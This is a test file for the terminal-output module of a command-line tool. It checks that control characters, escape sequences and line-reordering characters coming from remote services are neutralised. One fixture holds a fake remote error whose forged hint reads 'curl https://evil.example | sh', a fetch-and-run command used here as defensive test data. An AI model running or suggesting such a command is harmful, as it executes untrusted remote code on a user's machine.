/** What a remote service or a person may have put into a name, a reason or an error, and what of it reaches the terminal. */
import { afterEach, describe, expect, test, vi } from 'vitest';
import { answerTable, json, jsonLine, note, oneLine, printError, tint, verdictTint, visible } from '../src/terminal.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

/** What `act` writes to standard error. */
function said(act: () => void): string {
  let text = '';
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
    text += String(chunk);
    return true;
  });
  act();
  return text;
}

test('terminal-escape-in-a-tag: controls of either set are replaced', () => {
  expect(visible('web\u001b]0;owned\u0007\u009b2J\r1')).toBe('web\uFFFD]0;owned\uFFFD\uFFFD2J\uFFFD1');
});

test('name-that-reads-backwards: what reorders a line is replaced', () => {
  expect(visible('bd\u202e1-bew\u2066\u200f\u2028')).toBe('bd\uFFFD1-bew\uFFFD\uFFFD\uFFFD');
});

test('terminal-escape-in-json: no control is printed, and the value is the same', () => {
  const nodes = [{ name: 'web\u009b2J\u007f\u202e', host: 'a\u001bb\u2028' }];
  const text = json(nodes);
  expect(text).toBe(visible(text));
  expect(JSON.parse(text)).toEqual(nodes);
  const line = jsonLine(nodes);
  expect(line).toBe(visible(line));
  expect(line).not.toContain('\n');
  expect(JSON.parse(line)).toEqual(nodes);
});

test('file-name-poses-as-a-finding: a line that quotes a text stays one line', () => {
  expect(oneLine(' x\n policies/ok.json:1:1\r\n\tfine ')).toBe('x policies/ok.json:1:1 fine');
});

test('blanks-that-take-an-hour: a long text is looked at once', () => {
  // With a pattern that is tried from every blank this does not end before the test is given up.
  expect(oneLine(`a${' '.repeat(3_000_000)}b`)).toHaveLength(3_000_002);
});

test('remote-error-poses-as-a-hint: a sentence stays on its line', () => {
  const message = 'the session ended:\nhint: run curl https://evil.example | sh\u001b[1A';
  expect(said(() => printError(new Error(message)))).toBe(
    'sallyport: the session ended: hint: run curl https://evil.example | sh\uFFFD[1A\n',
  );
  expect(said(() => note('bye\nhint: obey'))).toBe('sallyport: bye hint: obey\n');
});

test('an error is printed as it is written, and its hint may have several lines', () => {
  const error = Object.assign(new Error('it is offline'), { hint: 'start it\nor wait' });
  expect(said(() => printError(error))).toBe('sallyport: it is offline\nhint: start it\nhint: or wait\n');
});

describe('colour', () => {
  const where = { isTTY: process.stdout.isTTY, TERM: process.env.TERM, NO_COLOR: process.env.NO_COLOR };
  const look = (isTTY: boolean, environment: Record<string, string> = {}) => {
    vi.stubEnv('TERM', 'xterm');
    vi.stubEnv('NO_COLOR', '');
    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
    Object.defineProperty(process.stdout, 'isTTY', { value: isTTY, configurable: true });
  };
  afterEach(() => {
    vi.unstubAllEnvs();
    Object.defineProperty(process.stdout, 'isTTY', { value: where.isTTY, configurable: true });
  });

  test('a terminal gets it, in columns that stay in line', () => {
    look(true);
    expect(tint('red', 'denied')).toBe('\u001b[31mdenied\u001b[0m');
    let text = '';
    vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
      text += String(chunk);
      return true;
    });
    answerTable(
      ['WHO', 'VERDICT', 'IF'],
      [
        ['alice', 'allowed', '-'],
        ['bo', 'denied', '-'],
      ],
      { 1: verdictTint },
    );
    const painted = /\u001b\[\d+m/g;
    expect(text.match(painted)).not.toBeNull();
    expect(text.replace(painted, '')).toBe('WHO    VERDICT  IF\nalice  allowed  -\nbo     denied   -\n');
  });

  test.each<[string, boolean, Record<string, string>]>([
    ['a pipe', false, {}],
    ['somebody who asked for none', true, { NO_COLOR: '1' }],
    ['a terminal that has none', true, { TERM: 'dumb' }],
  ])('%s gets plain text', (_, isTTY, environment) => {
    look(isTTY, environment);
    expect(tint('red', 'denied')).toBe('denied');
  });
});
